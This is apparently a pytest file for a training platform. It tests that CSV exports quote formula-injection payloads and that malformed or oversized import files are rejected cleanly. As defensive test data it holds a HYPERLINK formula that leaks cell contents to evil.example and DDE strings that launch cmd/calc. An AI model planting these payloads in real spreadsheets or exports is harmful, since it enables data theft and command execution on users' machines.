"""CSV attacks: formulas planted in stored text never run in a spreadsheet opening an export,
and hostile files given to an import (huge, wrongly encoded, binary, a million columns) get a
clear message in seconds and leave stored data exactly as it was, on the upload pages and on
the command line alike."""
import csv
import datetime as dt
import gc
import html
import io
import random
import re
import signal
from contextlib import contextmanager
from pathlib import Path

import pytest
from sqlalchemy import select
from werkzeug.datastructures import FileStorage
from werkzeug.test import encode_multipart

from cev_learn.accounts.models import Role
from cev_learn.analytics import forecast_pages, pages
from cev_learn.certifications.models import Certificate
from cev_learn.cohorts.models import Membership
from cev_learn.content.models import Certification, Quiz
from cev_learn.platform.csv_safety import FORMULA_PREFIXES, safe_cell
from cev_learn.platform.db import db, utcnow
from cev_learn.quizzes import services as quizzes
from cev_learn.ramp.facts import refresh_reps
from cev_learn.ramp.import_service import import_activities, import_quotas
from cev_learn.ramp.models import ActivityRecord, Quota
from tests.helpers import csrf_token, login, make_user
from tests.factories import make_cohort
from tests.quizzes.fixtures import quiz_track
from tests.snapshots import stored_state

SOURCE = Path(__file__).resolve().parents[2] / "cev_learn"

# --- Formula injection in exports -----------------------------------------------------------

HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"Open report")'
DDE = "+cmd|' /C calc'!A0"
MINUS = "-2+3+cmd|' /C calc'!A0"
AT = "@SUM(1+1)*cmd|' /C calc'!A0"
TAB, CR = "\t=1+1", "\r=1+1"
PLAIN_MINUS = "-2+3"
# RFC 4180: commas, quotes and line breaks inside a cell keep it one cell.
QUOTED = 'Ann, "the closer"\n=1+1'
# Where the list separator is ";" (many European locales) a spreadsheet splits lines there.
SEMICOLON = "Ann;=1+1;@SUM(1)"
PLANTED = [HYPERLINK, DDE, MINUS, AT, TAB, CR, PLAIN_MINUS]
# Modules that build CSV downloads; course assets served as text/csv are authors' files.
CSV_MODULES = {"analytics/pages.py", "analytics/views.py", "quizzes/coach_views.py",
               "certifications/views.py", "platform/csv_safety.py", "demo/crm_exports.py"}


def _yaml(text: str) -> str:
    return "'" + text.replace("'", "''") + "'"


def _hostile_track(root: Path) -> Path:
    quiz_track(root)
    track = root / "test-track" / "track.yaml"
    text = track.read_text().replace(
        "{slug: first-meeting, title: First meeting,",
        f"{{slug: first-meeting, title: {_yaml(HYPERLINK)},").replace(
        "title: Check yourself", f"title: {_yaml(AT)}")
    first_call = (f"  - {{slug: first-call, title: {_yaml(DDE)}, due_day: 7,\n"
                  "     measure: {activity: call, at_least: 1}}\n")
    text = text.replace("milestones:\n", "milestones:\n" + first_call, 1)
    text += (f"certifications:\n  checked: {{title: {_yaml(PLAIN_MINUS)}, "
             "requires: [{quiz: check}], valid_for_days: 365}\n")
    track.write_text(text)
    intro = root / "test-track" / "modules" / "01-intro.md"
    intro.write_text(intro.read_text().replace("title: Introduction", f"title: {_yaml(MINUS)}"))
    return root


def _plant(app, tmp_path):
    """Cohorts, reps, activities, quotas and quiz attempts whose text starts formulas."""
    result = app.test_cli_runner().invoke(args=["content", "sync",
                                                str(_hostile_track(tmp_path / "courses"))])
    assert result.exit_code == 0, result.output
    today = dt.date.today()
    names = [TAB, CR, PLAIN_MINUS, QUOTED, HYPERLINK, SEMICOLON]
    emails = ["=rep1@example.com", "+rep2@example.com", "-rep3@example.com", "@rep4@example.com",
              "rep5@example.com", "rep7@example.com"]
    reps = [make_user(Role.REP, name=name, email=email, territory=territory)
            for name, email, territory in zip(names, emails, [DDE, AT, MINUS, TAB, CR, "Nordics"])]
    earlier = make_user(Role.REP, name=AT, email="rep6@example.com")
    cohort = make_cohort(name=HYPERLINK, territory=DDE, reps=reps,
                         start_on=today - dt.timedelta(days=120))
    make_cohort(name=AT, territory=MINUS, reps=[earlier],
                start_on=today - dt.timedelta(days=200))
    start = cohort.start_on
    for n, rep in enumerate([*reps, earlier]):
        db.session.add(ActivityRecord(external_id=f"call-{n}", user_id=rep.id, type="call",
                                      occurred_on=start + dt.timedelta(days=3), quantity=5))
        db.session.add(Quota(user_id=rep.id, month=start.replace(day=1), amount=10_000))
    db.session.add(ActivityRecord(external_id="meeting", user_id=reps[0].id, type="meeting",
                                  occurred_on=start + dt.timedelta(days=10), quantity=1))
    certification = db.session.scalar(select(Certification))
    db.session.add_all(Certificate(user_id=rep.id, certification_id=certification.id,
                                   earned_on=start, expires_on=start + dt.timedelta(days=365),
                                   code=f"{n:043d}") for n, rep in enumerate([*reps, earlier]))
    db.session.commit()
    refresh_reps([rep.id for rep in [*reps, earlier]], today)
    quiz = db.session.scalar(select(Quiz))
    for rep in reps[:3]:
        attempt = quizzes.start_attempt(rep, quiz, utcnow(), dt.timedelta(seconds=30))
        quizzes.submit_attempt(attempt.id, None, utcnow(), dt.timedelta(seconds=30))
    db.session.commit()
    return cohort, reps[0], quiz


def _export_urls(app, viewer, cohort, rep, quiz) -> dict[str, list[str]]:
    """Every CSV download of the app for this data, by endpoint: one per report table."""
    today = dt.date.today()
    membership = db.session.scalar(select(Membership).where(Membership.user_id == rep.id))
    tables = {
        "analytics.dashboard_csv": ({}, pages.dashboard(viewer, today, today).tables),
        "analytics.cohort_csv": ({"cohort_id": cohort.id}, pages.cohort_page(
            cohort, [], [], None, 1, today, today).tables),
        "analytics.rep_csv": ({"user_id": rep.id}, pages.rep_ramp_page(
            membership, today, today).tables),
        "analytics.forecasts_csv": ({}, forecast_pages.backtest_page(
            viewer, tracks := forecast_pages.visible_tracks(viewer), tracks[0], today,
            today).tables),
    }
    urls = app.url_map.bind("localhost")
    exports = {endpoint: [urls.build(endpoint, {**args, "name": name}) for name in named]
               for endpoint, (args, named) in tables.items()}
    exports["quizzes.quiz_results_csv"] = [urls.build("quizzes.quiz_results_csv",
                                                      {"quiz_id": quiz.id})]
    exports["certifications.overview_csv"] = [urls.build("certifications.overview_csv", {})]
    return exports


def _starts_a_formula(cell: str) -> bool:
    if not cell.startswith(FORMULA_PREFIXES):
        return False
    try:
        float(cell)  # a negative number is data, not a formula
    except ValueError:
        return True
    return False


def test_safe_cell_quotes_every_character_that_starts_a_formula():
    # OWASP's list, with the NUL that ASVS 5.0 adds: a spreadsheet may skip it.
    for prefix in ("=", "+", "-", "@", "\t", "\r", "\0"):
        assert safe_cell(prefix + "1+1") == "'" + prefix + "1+1"
    assert (safe_cell(-0.25), safe_cell(3), safe_cell(None)) == (-0.25, 3, "")
    assert safe_cell("Plain, text") == "Plain, text"


def test_every_csv_export_neutralises_planted_formulas(app, tmp_path):
    cohort, rep, quiz = _plant(app, tmp_path)
    admin = make_user(Role.ADMIN)
    exports = _export_urls(app, admin, cohort, rep, quiz)
    csv_routes = {rule.endpoint for rule in app.url_map.iter_rules()
                  if rule.rule.endswith(".csv")}
    assert csv_routes == set(exports), "a CSV export this test does not download"
    builders = {path.relative_to(SOURCE).as_posix() for path in SOURCE.rglob("*.py")
                if re.search(r"text/csv|csv\.writer|csv_text\(", path.read_text())}
    # The loader reads authors' assets; security.py names the type only to mark it no-store,
    # and the API's file import to accept it.
    assert builders - {"content/loader.py", "platform/security.py",
                       "api/outcome_views.py"} == CSV_MODULES, \
        "CSV built outside csv_safety"

    client = app.test_client()
    login(client, admin.email)
    cells, problems = [], []
    for url in (url for urls in exports.values() for url in urls):
        response = client.get(url)
        assert response.status_code == 200 and response.mimetype == "text/csv", url
        text = response.get_data(as_text=True)
        rows = list(csv.reader(io.StringIO(text, newline="")))
        assert rows, f"{url} is empty"
        for row in rows:
            problems += [f"{url}: {cell!r}" for cell in row if _starts_a_formula(cell)]
            cells += row
        for row in csv.reader(io.StringIO(text, newline=""), delimiter=";"):
            problems += [f"{url} read at semicolons: {cell!r}" for cell in row
                         if _starts_a_formula(cell)]
    assert not problems, "cells a spreadsheet would run:\n" + "\n".join(problems)
    for planted in PLANTED:
        assert "'" + planted in cells, f"{planted!r} reached no export"
    assert QUOTED in cells and SEMICOLON in cells  # one cell each, as stored


# --- Hostile import files ------------------------------------------------------------------

USERS = "email,name,role"
ACTIVITIES = "external_id,rep_email,occurred_on,type,quantity,amount"
QUOTAS = "rep_email,month,amount"
GOOD_ROW = {"users": "zoe@example.com,Zoë Müller,rep",
            "activities": "crm-9,ana@example.com,2026-03-02,call,3,",
            "quotas": "ana@example.com,2026-04,12000"}
HEADER = {"users": USERS, "activities": ACTIVITIES, "quotas": QUOTAS}
NUL_ROW = {"users": ("zed@example.com,Zed\0=1+1,rep", "name contains a NUL character"),
           "activities": ("crm\0-10,ana@example.com,2026-03-02,call,1,",
                          "external_id contains a NUL character"),
           "quotas": ("ana@example.com\0,2026-05,100", "rep_email contains a NUL character")}
COLUMNS = 1_000_000
MIB = 1 << 20
HUGE = 100 * MIB
NOT_UTF8 = "not UTF-8 text"


class Hang(Exception):
    pass


@contextmanager
def within(seconds: int, what: str):
    """Fail, rather than wait for minutes, if the block is still running after `seconds`."""
    def stop(_signum, _frame):
        raise Hang(f"{what} still running after {seconds} s")

    previous = signal.signal(signal.SIGALRM, stop)
    signal.alarm(seconds)
    try:
        yield
    finally:
        signal.alarm(0)
        signal.signal(signal.SIGALRM, previous)


LATIN1_ROW = {"activities": "occurred_on 'café' is not a date; use YYYY-MM-DD",
              "quotas": "month 'Zoë' is not a month; use YYYY-MM"}


def hostile_files(kind: str) -> dict[str, tuple[bytes, str]]:
    """name -> (file content, what the message must say)."""
    header, good = HEADER[kind], GOOD_ROW[kind]
    text = f"{header}\n{good}\n"
    width = header.count(",") + 1
    nul_row, nul_message = NUL_ROW[kind]
    first = header.split(",")[0]
    # CRM data comes as CRMs and spreadsheets save it: UTF-16 and Windows-1252 are read (the
    # tests of tests/ramp/test_crm_import.py), so a Latin-1 row is just a row, and a bad one.
    encodings = {
        "UTF-16 with a byte order mark": (text.encode("utf-16"), NOT_UTF8),
        "UTF-16 without a byte order mark": (text.encode("utf-16-le"), NOT_UTF8),
        "Latin-1 with accents": ((text + "René,Zoë,café\n").encode("latin-1"), NOT_UTF8),
        "binary garbage": (random.Random(kind).randbytes(64 * 1024), NOT_UTF8),
    } if kind == "users" else {
        "Latin-1 with accents": ((text + "René,Zoë,café\n").encode("latin-1"),
                                 LATIN1_ROW[kind]),
        "binary garbage": (random.Random(kind).randbytes(64 * 1024),
                           "is not readable as Windows-1252 text"),
    }
    return {
        **encodings,
        "a NUL character in a cell": (f"{text}{nul_row}\n".encode(), nul_message),
        "a row of a million columns": (
            f"{text}{','.join(['x'] * COLUMNS)}\n".encode(),
            f"{COLUMNS} fields but the header has {width}"),
        "a header of a million copies of one column": (
            (",".join([first] * COLUMNS) + f"\n{good}\n").encode(), f"duplicate column '{first}'"),
        "a header of a million unknown columns": (
            (header + "," + ",".join(f"c{i}" for i in range(COLUMNS)) + f"\n{good}\n").encode(),
            "unknown columns 'c0', 'c1'"),
    }


@pytest.fixture
def admin_client(app):
    """A signed-in admin (who may use both upload pages), a rep with an activity and a quota."""
    admin = make_user(Role.ADMIN, email="ada@example.com")
    make_user(Role.REP, email="ana@example.com")
    assert import_activities(f"{ACTIVITIES}\ncrm-1,ana@example.com,2026-02-27,email,5,0\n",
                             skip_invalid=False, today=dt.date.today()).imported
    assert import_quotas(f"{QUOTAS}\nana@example.com,2026-03,10000\n", skip_invalid=False,
                         today=dt.date.today()).imported
    db.session.commit()
    client = app.test_client()
    login(client, admin.email)
    return client


def upload(client, kind: str, content: bytes):
    page = "/admin/import/users" if kind == "users" else "/ramp/import"
    fields = {"csrf_token": csrf_token(client, page),
              "file": FileStorage(io.BytesIO(content), f"{kind}.csv")}
    if kind != "users":
        fields["kind"] = kind
    # Encoded in memory: the test client would spool a body this big to an unclosed file.
    boundary, body = encode_multipart(fields)
    return client.post(page, data=body, content_type=f"multipart/form-data; boundary={boundary}")


def run_cli(app, tmp_path, kind: str, content: bytes | Path):
    """`cev-learn import KIND FILE`, in the app's own context as the command runs."""
    path = content if isinstance(content, Path) else tmp_path / f"{kind}.csv"
    if not isinstance(content, Path):
        path.write_bytes(content)
    with app.app_context():
        return app.test_cli_runner().invoke(args=["import", kind, str(path)])


@pytest.mark.parametrize("kind", ["users", "activities", "quotas"])
def test_hostile_files_get_a_clear_message_and_store_nothing(app, tmp_path, admin_client, kind):
    before = stored_state()
    assert before["activity_record"][0] == 1 and before["quota"][0] == 1
    problems = []
    for name, (content, message) in hostile_files(kind).items():
        with within(20, f"uploading {name}"):
            response = upload(admin_client, kind, content)
        page = html.unescape(response.get_data(as_text=True))
        if response.status_code != 400 or message not in page:
            problems.append(f"upload, {name}: {response.status_code}, "
                            f"{'message shown' if message in page else 'no ' + repr(message)}")
        if len(page) > 200_000:
            problems.append(f"upload, {name}: a page of {len(page):,} characters")
        with within(20, f"importing {name}"):
            result = run_cli(app, tmp_path, kind, content)
        if result.exit_code != 1 or message not in result.output:
            problems.append(f"cli, {name}: exit {result.exit_code}, {result.output[:300]!r}")
        if len(result.output) > 20_000:
            problems.append(f"cli, {name}: {len(result.output):,} characters of output")
    assert not problems, "\n".join(problems)
    assert stored_state() == before


# --- 100 MB ---------------------------------------------------------------------------------

BOUNDARY = "cevlearnboundary7MA4YWxkTrZu0gW"


@pytest.fixture(scope="module")
def huge_files(tmp_path_factory):
    """Per import: a 100 MB CSV file, good rows then a quoted cell that runs to its end (as
    when a stray quote swallows the rest of an export), and that file as a 100 MB upload."""
    root = tmp_path_factory.mktemp("huge")
    filler = b"x" * MIB
    files = {}
    for kind in ("users", "activities", "quotas"):
        path = root / f"{kind}.csv"
        with path.open("wb") as out:
            out.write(f'{HEADER[kind]}\n{GOOD_ROW[kind]}\n"'.encode())
            for _ in range(HUGE // MIB):
                out.write(filler)
        fields = "" if kind == "users" else (
            f'--{BOUNDARY}\r\nContent-Disposition: form-data; name="kind"\r\n\r\n{kind}\r\n')
        body = root / f"{kind}.upload"
        with body.open("wb") as out, path.open("rb") as source:
            out.write((f'{fields}--{BOUNDARY}\r\nContent-Disposition: form-data; name="file"; '
                       f'filename="{kind}.csv"\r\nContent-Type: text/csv\r\n\r\n').encode())
            while chunk := source.read(8 * MIB):
                out.write(chunk)
            out.write(f"\r\n--{BOUNDARY}--\r\n".encode())
        files[kind] = (path, body)
    return files


# Cut off mid-file, Werkzeug's form parser leaves the part it was spooling (an anonymous
# temporary file) for the garbage collector to close: collected here, its warnings ignored.
@pytest.mark.filterwarnings(
    r"ignore:Exception ignored in. <(function SpooledTemporaryFile.__del__|_io.FileIO .*'rb\+')"
    ":pytest.PytestUnraisableExceptionWarning")
@pytest.mark.parametrize("kind", ["users", "activities"])
def test_a_100_mb_upload_gets_the_413_page_whether_or_not_its_length_is_declared(
        app, admin_client, huge_files, kind):
    page = "/admin/import/users" if kind == "users" else "/ramp/import"
    before = stored_state()
    body = huge_files[kind][1]
    assert body.stat().st_size > HUGE
    headers = {"X-CSRFToken": csrf_token(admin_client, page)}
    content_type = f"multipart/form-data; boundary={BOUNDARY}"
    # Declared: refused before reading. Chunked (no length): refused once the limit is read.
    chunked = {"HTTP_TRANSFER_ENCODING": "chunked", "wsgi.input_terminated": True}
    for environ in ({}, chunked):
        with body.open("rb") as stream, within(20, "a 100 MB upload"):
            response = admin_client.post(page, input_stream=stream, content_type=content_type,
                                    headers=headers, environ_overrides=environ)
        text = html.unescape(response.get_data(as_text=True))
        assert response.status_code == 413, (environ, response.status_code)
        assert response.mimetype == "text/html" and "Too large" in text
        assert "larger than" in text and "Traceback" not in text
    gc.collect()
    gc.collect()
    assert stored_state() == before


@pytest.mark.parametrize("kind", ["users", "activities", "quotas"])
def test_a_100_mb_file_on_the_command_line_is_refused_and_stores_nothing(
        app, tmp_path, admin_client, huge_files, kind):
    before = stored_state()
    path = huge_files[kind][0]
    assert path.stat().st_size > HUGE
    with within(30, "importing a 100 MB file"):
        result = run_cli(app, tmp_path, kind, path)
    assert result.exit_code == 1, result.output
    assert f"{kind}.csv: line 3: field larger than field limit" in result.output
    assert stored_state() == before
